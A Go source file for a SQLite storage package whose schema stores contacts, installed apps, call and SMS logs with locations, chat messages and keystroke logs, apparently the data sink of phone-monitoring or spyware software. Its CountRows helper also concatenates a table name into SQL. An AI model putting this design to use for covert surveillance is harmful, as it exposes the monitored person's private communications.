// Package store is the durable relational sink: one SQLite table per
// record type, with idempotent schema creation and batched writes.
package store

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"path/filepath"

	_ "modernc.org/sqlite"
)

const pragmas = `
PRAGMA journal_mode = WAL;
PRAGMA synchronous = NORMAL;
PRAGMA busy_timeout = 5000;
`

// schema creates one table per record type. Every statement is
// CREATE IF NOT EXISTS so initialization can run on every process start.
// InstalledApps carries the unique key that backs its insert-or-replace
// conflict policy.
const schema = `
CREATE TABLE IF NOT EXISTS Contacts (
    contact_id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT NOT NULL,
    phone_number TEXT,
    email TEXT,
    last_contacted DATETIME
);

CREATE TABLE IF NOT EXISTS InstalledApps (
    app_id INTEGER PRIMARY KEY AUTOINCREMENT,
    application_name TEXT NOT NULL,
    package_name TEXT NOT NULL,
    install_date DATETIME,
    UNIQUE(package_name, install_date)
);

CREATE TABLE IF NOT EXISTS Calls (
    call_id INTEGER PRIMARY KEY AUTOINCREMENT,
    call_type TEXT NOT NULL,
    time DATETIME,
    from_to TEXT,
    duration INTEGER DEFAULT 0,
    location TEXT
);

CREATE TABLE IF NOT EXISTS SMS (
    sms_id INTEGER PRIMARY KEY AUTOINCREMENT,
    sms_type TEXT NOT NULL,
    time DATETIME,
    from_to TEXT,
    text TEXT,
    location TEXT
);

CREATE TABLE IF NOT EXISTS ChatMessages (
    message_id INTEGER PRIMARY KEY AUTOINCREMENT,
    messenger TEXT NOT NULL,
    time DATETIME,
    sender TEXT,
    text TEXT
);

CREATE TABLE IF NOT EXISTS Keylogs (
    keylog_id INTEGER PRIMARY KEY AUTOINCREMENT,
    application TEXT NOT NULL,
    time DATETIME,
    text TEXT
);
`

// Store owns the single writer connection to the SQLite database file.
type Store struct {
	db *sql.DB
}

// Open creates the database file (and its directory) if needed and
// applies connection pragmas. The schema is created separately by Init.
func Open(path string) (*Store, error) {
	if dir := filepath.Dir(path); dir != "." {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return nil, fmt.Errorf("create db dir: %w", err)
		}
	}

	db, err := sql.Open("sqlite", path)
	if err != nil {
		return nil, fmt.Errorf("open db: %w", err)
	}

	// One connection: the design assumes a single writer, and SQLite
	// serializes writers anyway.
	db.SetMaxOpenConns(1)

	if _, err := db.Exec(pragmas); err != nil {
		db.Close()
		return nil, fmt.Errorf("apply pragmas: %w", err)
	}

	return &Store{db: db}, nil
}

// Init creates all record type tables. Safe to call on every start.
func (s *Store) Init(ctx context.Context) error {
	if _, err := s.db.ExecContext(ctx, schema); err != nil {
		return fmt.Errorf("init schema: %w", err)
	}
	return nil
}

// Close releases the underlying connection.
func (s *Store) Close() error {
	return s.db.Close()
}

// DB exposes the underlying handle for the loader and for tests.
func (s *Store) DB() *sql.DB {
	return s.db
}

// CountRows returns the number of rows in a record type table.
func (s *Store) CountRows(ctx context.Context, table string) (int, error) {
	var n int
	err := s.db.QueryRowContext(ctx, "SELECT COUNT(*) FROM "+table).Scan(&n)
	if err != nil {
		return 0, fmt.Errorf("count %s: %w", table, err)
	}
	return n, nil
}
